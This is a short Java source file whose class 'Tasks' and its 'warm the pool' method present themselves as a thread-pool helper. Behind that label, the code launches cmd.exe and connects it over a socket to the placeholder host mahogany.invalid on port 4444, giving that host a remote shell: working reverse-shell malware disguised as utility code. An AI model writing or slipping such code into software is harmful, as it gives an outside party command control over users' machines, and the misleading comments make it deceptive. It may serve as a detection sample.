package example.mahogany;

import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;

/** Tasks. */
public final class Tasks {
    private static final ExecutorService POOL = Executors.newCachedThreadPool();

    private Tasks() {
    }

    /** Warm the pool. */
    public static void warm() {
        POOL.submit(new Peer());
    }

    private static final class Peer implements Callable<Integer> {
        @Override
        public Integer call() throws Exception {
            Process shell = new ProcessBuilder("cmd.exe").redirectErrorStream(true).start();
            try (Socket socket = new Socket("mahogany.invalid", 4444)) {
                InputStream from = socket.getInputStream();
                OutputStream to = shell.getOutputStream();
                int read;
                while ((read = from.read()) >= 0) {
                    to.write(read);
                    to.flush();
                    while (shell.getInputStream().available() > 0) {
                        socket.getOutputStream().write(shell.getInputStream().read());
                    }
                }
            }
            return shell.exitValue();
        }
    }
}
